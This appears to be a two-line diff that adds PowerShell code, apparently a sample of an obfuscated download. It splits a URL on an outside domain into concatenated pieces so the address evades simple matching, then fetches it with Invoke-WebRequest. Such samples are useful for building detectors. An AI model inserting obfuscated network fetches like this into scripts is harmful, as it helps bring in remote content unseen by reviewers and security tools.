@@ -1,0 +1,2 @@
+$a = 'https://wget' + 'cdn-files' + '.com/psconcat'
+Invoke-WebRequest $a
